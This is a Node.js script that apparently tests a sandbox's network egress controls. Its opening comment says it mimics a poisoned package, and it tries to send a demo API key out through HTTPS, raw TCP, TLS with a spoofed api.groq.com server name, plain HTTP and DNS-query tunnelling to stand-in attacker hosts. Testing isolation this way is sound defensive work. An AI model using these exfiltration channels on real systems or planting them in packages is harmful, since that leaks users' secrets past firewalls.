// What a poisoned package does: it takes what the process knows and tries every way out that it can think of.
import { Resolver } from 'node:dns/promises';
import net from 'node:net';
import tls from 'node:tls';

const secret = Buffer.from('GROQ_API_KEY=gsk_demo').toString('hex');
const evil = '198.51.100.66';
const within = (ms, attempt) => Promise.race([attempt, new Promise((_, no) => setTimeout(no, ms, new Error('no answer')))]);
const socket = (options) => new Promise((yes, no) => {
  const connection = options.servername ? tls.connect({ ...options, rejectUnauthorized: false }, () => yes(connection)) : net.connect(options, () => connection.write(secret));
  connection.on('data', yes).on('error', no).on('close', () => no(new Error('closed')));
});

const ways = {
  'https to its collector': () => fetch('https://collector.evil.test/?' + secret),
  'https to an address': () => socket({ host: evil, port: 443 }),
  'an allowed name, said to the wrong address': () => socket({ host: evil, port: 443, servername: 'api.groq.com' }).then((c) => {
    const names = c.getPeerCertificate().subjectaltname ?? '';
    c.destroy();
    throw new Error(names.includes('api.groq.com') ? 'was led to the real api.groq.com' : 'reached another server');
  }),
  'http by address': () => fetch(`http://${evil}/?${secret}`).then((answer) => { if (answer.status >= 400) throw new Error(`the gateway answered ${answer.status}`); }),
  'raw bytes on another port': () => socket({ host: evil, port: 8443 }),
  'DNS questions that carry the secret': () => { const r = new Resolver({ tries: 1, timeout: 1500 }); return r.resolve4(secret.slice(0, 60) + '.evil.test'); },
  'DNS straight to its own server': () => { const r = new Resolver({ tries: 1, timeout: 1500 }); r.setServers([evil]); return r.resolve4(secret.slice(0, 60) + '.evil.test'); },
};
for (const [way, attempt] of Object.entries(ways)) {
  const outcome = await within(4000, attempt()).then(() => 'GOT OUT', (error) => error.cause?.code ?? error.code ?? error.message);
  console.log(`  ${way}: ${outcome}`);
}
process.exit();
